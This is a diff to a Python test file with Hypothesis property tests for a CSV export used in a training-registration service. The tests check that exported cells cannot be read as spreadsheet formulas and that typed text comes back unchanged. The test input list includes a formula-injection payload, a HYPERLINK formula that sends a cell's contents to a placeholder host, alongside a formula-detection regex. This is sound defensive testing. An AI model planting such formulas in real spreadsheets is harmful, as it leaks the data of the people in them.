@@ -11,6 +11,8 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from services.training import sheets
+from services.training.registrations_csv import read
+from tests.training.lists import GOOD, HEADER, REGISTER
 
 ATTACKS = (
     '=HYPERLINK("http://x.example?"&A1;"klik")',
@@ -37,6 +39,8 @@ ATTACKS = (
 FORMULA = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")
 texts = st.text(st.characters()) | st.sampled_from(ATTACKS) | st.text("=+-@;,\t\r\n\"' ＝a", max_size=8)
 
+amounts = st.from_regex(r"(\w{0,3},['\" ]{0,2}[=+\-@]?['\" ]{0,2}){1,3}\w?", fullmatch=True).filter(str.isprintable)
+
 
 def opened(file: bytes, separator: str = ";") -> list[list[str]]:
     return list(csv.reader(StringIO(file.decode("utf-8-sig"), newline=""), delimiter=separator))
@@ -57,9 +61,38 @@ def test_no_text_is_a_formula_whatever_the_reader_takes_for_a_separator(rows: li
         assert [cell for row in opened(file, separator) for cell in row if FORMULA.match(cell)] == []
 
 
-@given(st.lists(st.lists(st.from_regex(r"[\w][\w ;,\"'.-]*", fullmatch=True), min_size=2, max_size=2)))
-def test_what_is_no_formula_comes_back_as_it_was(rows: list[list[str]]) -> None:
-    assert opened(sheets.csv(["organisatie", "functie"], rows))[1:] == rows
+def told(cell: str) -> list[str]:
+    """Every cell that some reader sees, when `cell` is written as it is behind another one."""
+    file = StringIO()
+    csv.writer(file, delimiter=";", quoting=csv.QUOTE_NONNUMERIC).writerow(["a", cell])
+    return [each for separator in ";,\t" for row in opened(file.getvalue().encode(), separator) for each in row]
+
+
+@given(st.text(st.characters(categories=["L", "N", "P", "S", "Zs"])).filter(str.isprintable) | amounts)
+@example("0,-")
+@example("'s-Gravenhage, Oost")
+def test_what_no_reader_takes_for_a_formula_stands_as_it_was_typed(text: str) -> None:
+    [[_, cell]] = opened(sheets.csv(["", text], []))
+    assert (cell == text) == (not any(re.match(r"[\s'\"]*[=+\-@＝＋－＠]", each) for each in told(text)))
+
+
+@given(texts.filter(str.isprintable) | amounts)
+@example("0,-")
+@example(",'-")
+@example("''=1,''=1")
+def test_every_printable_text_comes_back_as_it_was_typed(text: str) -> None:
+    [[_, cell]] = opened(sheets.csv(["", text], []))
+    assert sheets.typed(cell) == text
+
+
+@given(st.lists(amounts, min_size=1, max_size=3))
+@example(["Actie 5,-"])
+def test_a_sheet_sent_back_as_a_list_names_what_was_typed(names: list[str]) -> None:
+    typed = [f"zo {name}" for name in names]
+    rows = [(*GOOD[:1], name, f"p{n}@caw.example", *GOOD[3:]) for n, name in enumerate(typed)]
+    assert [row.name for row in read(sheets.csv(HEADER, rows), REGISTER)] == [
+        " ".join(f"{GOOD[0]} {name}".split()) for name in typed
+    ]
 
 
 def test_a_belgian_spreadsheet_opens_it_without_a_question() -> None:
